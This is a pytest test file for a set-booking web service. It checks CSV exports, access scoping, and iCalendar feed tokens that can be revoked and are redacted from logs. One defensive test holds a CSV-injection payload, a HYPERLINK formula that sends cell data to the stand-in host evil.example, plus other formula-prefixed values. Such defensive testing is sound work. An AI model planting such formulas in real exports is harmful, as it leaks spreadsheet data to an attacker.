"""Exports on both databases: CSV round-trips (with BOM), iCalendar feeds parse and revoke."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from fastapi.testclient import TestClient
from icalendar import Calendar

from app.db import transaction
from app.models import Blackout, Booking, utcnow
from tests.factories import World, auth, day, iso


def _bookings(w: World) -> dict[str, int]:
    now = utcnow()
    ids = {}
    with transaction() as s:
        for name, set_id, crew, a, b, status, price in [
            ("c1", w.set_a1, w.crew1, 10, 13, "confirmed", 30_000),
            ("h2", w.set_a1, w.crew2, 14, 16, "hold", None),
            ("h1", w.set_a2, w.crew1, 20, 21, "hold", None),
            ("old", w.set_a2, w.crew1, 2, 3, "released", None),
        ]:
            booking = Booking(
                set_id=set_id,
                crew_id=crew,
                start_date=day(a),
                end_date=day(b),
                status=status,
                placed_at=now - timedelta(hours=1),
                expires_at=now + timedelta(days=3),
                price=price,
                confirmed_at=now if price else None,
                note="灯光组 sc. 12",
            )
            s.add(booking)
            s.flush()
            ids[name] = booking.id
        s.add(Blackout(set_id=w.set_a1, start_date=day(17), end_date=day(19), reason="灯会"))
    return ids


def rows(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_occupancy_csv_round_trips(client: TestClient, world: World) -> None:
    ids = _bookings(world)
    r = client.get(
        f"/bases/{world.base_a}/occupancy.csv",
        params={"start": iso(10), "end": iso(20)},
        headers=auth(world.manager_a),
    )
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    table = rows(r.content)
    assert len(table) == 2 * 10  # two sets × ten days
    by = {(x["set_code"], x["date"]): x for x in table}
    assert by[("AAA-1", iso(10))]["state"] == "confirmed"
    assert by[("AAA-1", iso(10))]["booking_id"] == str(ids["c1"])
    assert by[("AAA-1", iso(10))]["crew"] == "Production C1"
    assert by[("AAA-1", iso(14))]["holds"] == f"1st Production C2 (#{ids['h2']})"
    assert by[("AAA-1", iso(17))]["state"] == "blackout"
    assert by[("AAA-1", iso(17))]["blackout_reason"] == "灯会"
    assert by[("AAA-2", iso(10))]["set_name_zh"] == "景AAA-2"
    # The same grid as the JSON API.
    api = client.get(
        f"/bases/{world.base_a}/occupancy",
        params={"start": iso(10), "end": iso(20)},
        headers=auth(world.manager_a),
    ).json()
    assert [x["state"] for x in table if x["set_code"] == "AAA-1"] == api["sets"][0]["states"]


def test_occupancy_csv_scoping(client: TestClient, world: World) -> None:
    _bookings(world)
    params = {"start": iso(10), "end": iso(20)}
    r = client.get(
        f"/bases/{world.base_a}/occupancy.csv", params=params, headers=auth(world.coord3)
    )
    assert r.status_code == 200
    assert "Production" not in r.content.decode("utf-8-sig")
    r = client.get(
        f"/bases/{world.base_a}/occupancy.csv", params=params, headers=auth(world.manager_b)
    )
    assert r.status_code == 404 and r.headers["content-type"] == "application/problem+json"
    assert client.get(f"/bases/{world.base_a}/occupancy.csv", params=params).status_code == 401
    r = client.get(
        f"/bases/{world.base_a}/occupancy.csv",
        params={"start": iso(0), "end": iso(100)},
        headers=auth(world.admin),
    )
    assert r.status_code == 422


def test_bookings_csv(client: TestClient, world: World) -> None:
    ids = _bookings(world)
    r = client.get("/bookings.csv", headers=auth(world.coord1))
    table = rows(r.content)
    assert [x["start"] for x in table] == sorted(x["start"] for x in table)
    assert {int(x["id"]) for x in table} == {ids["c1"], ids["h1"], ids["old"]}
    c1 = next(x for x in table if int(x["id"]) == ids["c1"])
    assert (c1["start"], c1["last_day"], c1["days"], c1["price_yuan"]) == (
        iso(10),
        iso(12),
        "3",
        "30000",
    )
    assert c1["note"] == "灯光组 sc. 12"
    live = rows(
        client.get("/bookings.csv", params={"live": "true"}, headers=auth(world.coord1)).content
    )
    assert {int(x["id"]) for x in live} == {ids["c1"], ids["h1"]}
    other = rows(client.get("/bookings.csv", headers=auth(world.coord3)).content)
    assert other == []
    mgr = rows(client.get("/bookings.csv", headers=auth(world.manager_a)).content)
    assert len(mgr) == 4 and {x["rank"] for x in mgr if x["status"] == "hold"} == {"1"}


def _feed(client: TestClient, key: str, **body: object) -> dict[str, object]:
    r = client.post("/feeds", json=body, headers=auth(key))
    assert r.status_code == 201, r.text
    return dict(r.json())


def test_crew_feed_parses_and_can_be_revoked(client: TestClient, world: World) -> None:
    ids = _bookings(world)
    made = _feed(client, world.coord1, kind="crew", crew_id=world.crew1)
    assert str(made["url"]).startswith("/feeds/blf_") and made["token"] not in str(
        client.get("/feeds", headers=auth(world.coord1)).json()
    )
    r = client.get(str(made["url"]))
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/calendar")
    cal = Calendar.from_ical(r.content)
    events = {str(e["UID"]): e for e in cal.walk("VEVENT")}
    assert set(events) == {f"booking-{ids['c1']}@backlot", f"booking-{ids['h1']}@backlot"}
    c1 = events[f"booking-{ids['c1']}@backlot"]
    assert c1.decoded("DTSTART") == day(10) and c1.decoded("DTEND") == day(13)
    assert str(c1["STATUS"]) == "CONFIRMED" and "Confirmed" in str(c1["SUMMARY"])
    assert str(events[f"booking-{ids['h1']}@backlot"]["STATUS"]) == "TENTATIVE"
    # Stable: the same UIDs on every fetch.
    again = Calendar.from_ical(client.get(str(made["url"])).content)
    assert {str(e["UID"]) for e in again.walk("VEVENT")} == set(events)

    assert client.post(f"/feeds/{made['id']}/revoke", headers=auth(world.coord2)).status_code == 404
    r = client.post(f"/feeds/{made['id']}/revoke", headers=auth(world.coord1))
    assert r.status_code == 200 and r.json()["active"] is False
    gone = client.get(str(made["url"]))
    assert gone.status_code == 404 and gone.headers["content-type"] == "application/problem+json"


def test_set_feed_shows_crews_and_blackouts(client: TestClient, world: World) -> None:
    ids = _bookings(world)
    made = _feed(client, world.manager_a, kind="set", set_id=world.set_a1)
    cal = Calendar.from_ical(client.get(str(made["url"])).content)
    events = {str(e["UID"]): str(e["SUMMARY"]) for e in cal.walk("VEVENT")}
    assert events[f"booking-{ids['c1']}@backlot"] == "Production C1 — Confirmed"
    assert events[f"booking-{ids['h2']}@backlot"] == "Production C2 — 1st hold"
    assert any(k.startswith("blackout-") and v == "Closed: 灯会" for k, v in events.items())


def test_feed_rules(client: TestClient, world: World) -> None:
    # A coordinator may not share a set's feed (sets are public: 403); another crew is 404.
    r = client.post(
        "/feeds", json={"kind": "set", "set_id": world.set_a1}, headers=auth(world.coord1)
    )
    assert r.status_code == 403
    r = client.post(
        "/feeds", json={"kind": "crew", "crew_id": world.crew2}, headers=auth(world.coord1)
    )
    assert r.status_code == 404
    r = client.post("/feeds", json={"kind": "crew", "set_id": 1}, headers=auth(world.coord1))
    assert r.status_code == 422
    assert client.get("/feeds/blf_nope.ics").status_code == 404
    # Revoking the creator's key ends the feed too.
    made = _feed(client, world.coord1, kind="crew", crew_id=world.crew1)
    me = client.get("/me", headers=auth(world.coord1)).json()
    client.post(f"/users/{me['id']}/revoke", headers=auth(world.admin))
    assert client.get(str(made["url"])).status_code == 404


def test_csv_cells_never_start_a_formula(client: TestClient, world: World) -> None:
    """OWASP CSV injection: a note or a reason a spreadsheet would run is written as text."""
    now = utcnow()
    note = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
    with transaction() as s:
        booking = Booking(
            set_id=world.set_a1,
            crew_id=world.crew1,
            start_date=day(10),
            end_date=day(12),
            status="confirmed",
            placed_at=now,
            confirmed_at=now,
            price=20_000,
            note=note,
        )
        s.add(booking)
        s.add(
            Blackout(set_id=world.set_a1, start_date=day(13), end_date=day(14), reason="@SUM(A1)")
        )
        s.add(Blackout(set_id=world.set_a2, start_date=day(13), end_date=day(14), reason="\t-2+3"))
    table = rows(client.get("/bookings.csv", headers=auth(world.coord1)).content)
    assert table[0]["note"] == "'" + note
    assert table[0]["price_yuan"] == "20000"  # numbers stay numbers
    grid = rows(
        client.get(
            f"/bases/{world.base_a}/occupancy.csv",
            params={"start": iso(13), "end": iso(14)},
            headers=auth(world.manager_a),
        ).content
    )
    reasons = {x["set_code"]: x["blackout_reason"] for x in grid}
    assert reasons == {"AAA-1": "'@SUM(A1)", "AAA-2": "'\t-2+3"}
    for cell in (c for row in table + grid for c in row.values()):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_revoking_the_key_kills_feeds_for_good(client: TestClient, world: World) -> None:
    """A rotation makes the user active again; their feeds revoked with the key stay dead,
    and a rotation alone ends the feeds made with the old key too."""
    before = _feed(client, world.coord1, kind="crew", crew_id=world.crew1)
    me = client.get("/me", headers=auth(world.coord1)).json()
    assert client.post(f"/users/{me['id']}/revoke", headers=auth(world.admin)).status_code == 200
    assert client.get(str(before["url"])).status_code == 404
    rotated = client.post(f"/users/{me['id']}/rotate-key", headers=auth(world.admin)).json()
    assert rotated["active"] is True
    assert client.get(str(before["url"])).status_code == 404
    listed = client.get("/feeds", headers=auth(rotated["api_key"])).json()
    assert [f["active"] for f in listed] == [False]
    # Made with the new key, ended by the next rotation.
    after = _feed(client, rotated["api_key"], kind="crew", crew_id=world.crew1)
    assert client.get(str(after["url"])).status_code == 200
    client.post(f"/users/{me['id']}/rotate-key", headers=auth(world.admin))
    assert client.get(str(after["url"])).status_code == 404


def test_feed_tokens_never_reach_the_access_log(engine: object, world: World) -> None:
    """The server's access log names a feed by its id; unknown or revoked tokens are redacted."""
    import logging
    import threading
    import time

    import httpx
    import uvicorn

    from app.main import create_app
    from tests.conftest import _free_port

    port = _free_port()
    server = uvicorn.Server(
        uvicorn.Config(create_app(), host="127.0.0.1", port=port, log_level="info")
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.02)
    lines: list[str] = []

    class Keep(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            lines.append(record.getMessage())

    keep = Keep()
    logging.getLogger("uvicorn.access").addHandler(keep)
    try:
        with httpx.Client(base_url=f"http://127.0.0.1:{port}") as http:
            made = http.post(
                "/feeds", json={"kind": "crew", "crew_id": world.crew1}, headers=auth(world.coord1)
            ).json()
            token = str(made["token"])
            assert http.get(f"/feeds/{token}.ics").status_code == 200
            assert http.get(f"/feeds/{token}.ics?x=1").status_code == 200
            assert http.post(f"/feeds/{token}.ics").status_code == 405
            assert http.get(f"/feeds/{token}").status_code == 404
            http.post(f"/feeds/{made['id']}/revoke", headers=auth(world.coord1))
            assert http.get(f"/feeds/{token}.ics").status_code == 404
        deadline = time.monotonic() + 5
        while len(lines) < 7 and time.monotonic() < deadline:
            time.sleep(0.02)
    finally:
        logging.getLogger("uvicorn.access").removeHandler(keep)
        server.should_exit = True
        thread.join(timeout=10)
    assert len(lines) == 7, lines
    assert not any(token in line or token[4:20] in line for line in lines), lines
    assert sum(f'"GET /feeds/{made["id"]}.ics' in line for line in lines) == 2, lines
    assert f'"POST /feeds/{made["id"]}/revoke' in "".join(lines)
    assert sum("/feeds/<token>.ics" in line for line in lines) == 3, lines
